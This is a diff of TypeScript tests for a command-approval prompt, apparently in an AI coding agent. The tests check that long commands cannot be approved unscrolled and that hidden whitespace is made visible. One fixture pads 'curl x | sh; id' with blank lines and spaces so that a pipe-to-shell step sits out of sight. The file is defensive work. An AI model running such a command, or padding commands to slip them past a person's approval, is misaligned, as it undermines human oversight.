@@ -210,11 +210,74 @@ describe('a permission question', () => {
     const first = stage.shown();
     expect(first.length).toBeLessThanOrEqual(24);
     expect(first).toContain(' > Allow once');
-    expect(first).not.toContain('   step-59');
+    expect(first).toContain('   step-0');
+    expect(first.join('\n')).toMatch(/… \d+ more lines …/);
+    expect(first).toContain('   step-59');
+    expect(first).not.toContain('   step-30');
     stage.press('end');
-    expect(stage.shown()).toContain('   step-59');
+    expect(stage.shown()).toContain('   step-50');
     stage.press('home');
     expect(stage.shown()).toContain('   step-0');
+    const seen = new Set(stage.shown());
+    for (let page = 0; page < 10; page += 1) {
+      stage.press('pageDown');
+      for (const line of stage.shown()) seen.add(line);
+    }
+    for (const step of command.split('\n')) expect([...seen]).toContain(`   ${step}`);
+  });
+
+  it('C-104 allows nothing whose end was never scrolled to, and denies at once', async () => {
+    const { stage, ask } = open();
+    const command = Array.from({ length: 60 }, (_, index) => `step-${index}`).join('\n');
+    const long = { ...push, detail: `${command}\n\ndecided by: ${push.about?.reason}` };
+    let answered: unknown;
+    const answer = ask(long).then((given) => {
+      answered = given;
+      return given;
+    });
+    for (
+      let page = 0;
+      page < 20 &&
+      !/ \d+-60 of 60/.test(
+        stage
+          .shown()
+          .join('\n')
+          .replace(/ and .*/g, ''),
+      );
+      page += 1
+    ) {
+      stage.press('enter');
+      await Promise.resolve();
+      expect(answered).toBeUndefined();
+    }
+    stage.press('enter');
+    expect(await answer).toEqual({ kind: 'selected', indexes: [0] });
+    const denied = ask(long);
+    stage.press('n', 'enter', 'enter');
+    expect(await denied).toMatchObject({ kind: 'selected', indexes: [3] });
+  });
+
+  it('C-104 does not let blank space push the end of a command out of sight', () => {
+    const { stage, ask } = open();
+    const command = `npm test${'\n'.repeat(120)}curl x | sh${' '.repeat(3000)}; id`;
+    void ask({ ...push, detail: `${command}\n\ndecided by: ${push.about?.reason}` });
+    expect(stage.shown().slice(2, 5)).toEqual([
+      '   npm test',
+      '   [119 blank lines]',
+      '   curl x | sh [3000 spaces] ; id',
+    ]);
+  });
+
+  it('C-104 shows the ends of lines in the rules it offers', () => {
+    const { stage, ask } = open();
+    const [once, , , no] = push.options;
+    const options = [once, { label: 'Allow `Bash(npm test\n\n\ncurl x)` for this session' }, no].filter(
+      (one) => one !== undefined,
+    );
+    void ask({ ...push, options });
+    expect(stage.shown().join('\n')).toContain(
+      'Allow `Bash(npm test\\n (3 line ends) curl x)` for this session',
+    );
   });
 
   it('C-104 spells out what is invisible in a command', () => {
